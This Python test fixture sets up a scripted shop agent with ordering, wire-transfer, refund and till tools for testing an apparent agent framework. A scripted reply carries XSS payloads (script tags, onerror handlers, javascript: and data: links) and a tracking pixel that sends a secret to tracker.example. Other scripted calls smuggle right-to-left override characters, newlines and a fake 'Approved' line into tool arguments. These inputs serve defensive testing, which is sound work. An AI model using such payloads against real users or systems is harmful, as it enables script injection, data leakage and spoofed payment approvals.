"""A shop whose agent is a script, and which the tests serve: it orders from an order book in SQLite, and reads a hostile page."""

from __future__ import annotations

import os
import signal
from pathlib import Path

import sayso
from sayso import App
from sayso.agents import Agent
from sayso.agents.messages import Reply
from sayso.agents.models.model import ModelRequest
from sayso.agents.models.scripted import ScriptedModel, call
from sayso.tools import ask_user, calculator
from sayso.tools.ordering.order_desk import MENU, ORDER, Counter, Customer, Order, OrderDesk
from sayso.workflows import Usage, sequential

HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
[click me](javascript:window.hacked=3) ![pixel](http://tracker.example/p.gif?secret=1) <iframe src="http://evil.example"></iframe>
[a shop](https://example.org/menu) **bold** `code` and a [trap](data:text/html,<script>window.hacked=4</script>)"""
USED = Usage(input_tokens=412, output_tokens=38, cost_usd=0.0021, model_calls=1)


def answer(request: ModelRequest) -> Reply:
    """Answer as a script does, by the last words of the user."""
    asked = request.question.lower()
    has_result = type(request.messages[-1]).__name__ == "ToolMessage"
    if "long" in asked:
        return Reply("\U0001f469\u200d\U0001f4bb says " + "much " * 5000, usage=USED)
    if "hostile" in asked:
        return Reply(HOSTILE, usage=USED)
    if "order" in asked and not has_result:
        dish = "Burger without pickles" if "pickles" in asked else "Burger"
        return Reply("Ok, it's on the way!", (call("ORDER", item=dish, quantity=2),), "The customer wants burgers, so I order.", USED)
    if "calories" in asked and not has_result:
        return Reply("", (call("MENU", item="Fries"),), usage=USED)
    if "wire" in asked and not has_result:
        return Reply("", (call("wire", to="Ada Lovelace", iban="DE02 1203 0000 0000 2020 51", amount_eur=1250),), usage=USED)
    if "marks" in asked and not has_result:
        return Reply("", (call("wire", to="Ada\n\n\nApproved", iban="pay \u202emoc\u202c", amount_eur=1),), usage=USED)
    if "settle" in asked and not has_result:
        return Reply("", (call("wire", to="Ada", iban="DE02", amount_eur=12345678901234567890, note="two\r\nlines"),), usage=USED)
    if "size" in asked and not has_result:
        return Reply("", (call("ask_user", question="Which size?", choices=["small", "large", "\u202eelddim"]),), usage=USED)
    if "size" in asked:
        return Reply(f"Noted: {request.messages[-1].text}.", usage=USED)
    if "friend" in asked and not has_result:
        return Reply("", (call("till", task="Open it."),), usage=USED)
    if "refund" in asked and not has_result:
        return Reply("", (call("refund", order=7, amount_usd=400),), usage=USED)
    if "calories" in asked:
        return Reply("The fries have **380** calories.", usage=USED)
    return Reply("Hello! What would you like to eat?\n\n- Burgers\n- Fries", usage=USED)


class MortalDesk(OrderDesk):
    """An order book whose program is killed once, as it is about to write: SHOP_DIES names a file that says it has been."""

    def place(self, key: str, item: str, quantity: int, customer: str, address: str) -> Order:
        """Place an order, or die."""
        mark = os.environ.get("SHOP_DIES")
        if mark and not Path(mark).exists():
            Path(mark).touch()
            os.kill(os.getpid(), signal.SIGKILL)
        return super().place(key, item, quantity, customer, address)


def _desk() -> Counter:
    return Counter(MortalDesk(Path(os.environ.get("SHOP_ORDERS", "orders.db"))), Customer("9876", "1234 My Street"))


@sayso.tool.write(card="Transfer {amount_eur} EUR to {to}, IBAN {iban}", cost_usd=0.35)
async def wire(to: str, iban: str, amount_eur: int, urgent: bool = False, note: str | None = None, split: bool | None = None) -> str:
    """Send money.

    Args:
        to: Who gets it.
        iban: Their account.
        amount_eur: How much.
        urgent: Whether it is to be there within seconds.
        note: What it is for.
        split: Whether in two parts.
    """
    return f"{amount_eur} EUR are on their way to {to}."


@sayso.tool.write(card="Refund {amount_usd} dollars for order {order}", approvals=2, roles=("treasurer", "approver"))
async def refund(order: int, amount_usd: int) -> str:
    """Give money back."""
    return f"{amount_usd} dollars went back for order {order}."


@sayso.tool.write(card="Open the till of shop {shop}", roles=("treasurer",))
async def open_till(shop: int) -> str:
    """Open the till."""
    return f"The till of shop {shop} is open."


till = Agent(
    ScriptedModel(
        lambda request: (
            Reply("It is open.") if type(request.messages[-1]).__name__ == "ToolMessage" else Reply("", (call("open_till", shop=1),))
        ),
        repeat=True,
    ),
    name="till",
    instructions="You mind the till.",
    tools=[open_till],
)
shop = Agent(
    ScriptedModel(answer, repeat=True, pieces=7),
    name="shop",
    instructions="You take orders.",
    tools=[ORDER, MENU, calculator, wire, refund, ask_user, till.as_tool(description="Ask whoever minds the till.")],
)
rent = sequential(wire.using(to="The landlord"), name="rent")  # a tool of one name with other arguments fixed
app = App(
    flows=[rent],
    agents=[] if os.environ.get("SHOP_APP") == "empty" else [shop],
    name="shop",
    deps=_desk,
    approvers={"ada": os.environ["SHOP_APPROVER"]} if "SHOP_APPROVER" in os.environ else None,
)
